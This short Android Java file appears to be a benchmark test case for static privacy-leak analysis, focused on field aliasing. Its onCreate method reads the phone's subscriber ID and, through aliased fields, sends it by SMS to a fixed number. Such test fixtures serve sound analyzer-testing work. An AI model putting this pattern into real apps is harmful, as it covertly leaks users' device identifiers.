package cn.privlens.suite.alias_in_field_deep;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Leaf { String value = ""; }
    static class Branch { Leaf leaf = new Leaf(); }
    static class Tree { Branch branch = new Branch(); }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Tree oak = new Tree();
        Tree elm = new Tree();
        elm.branch = oak.branch;

        oak.branch.leaf.value = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        String found = elm.branch.leaf.value;
        SmsManager.getDefault().sendTextMessage("10690000", null, found, null, null);
    }
}
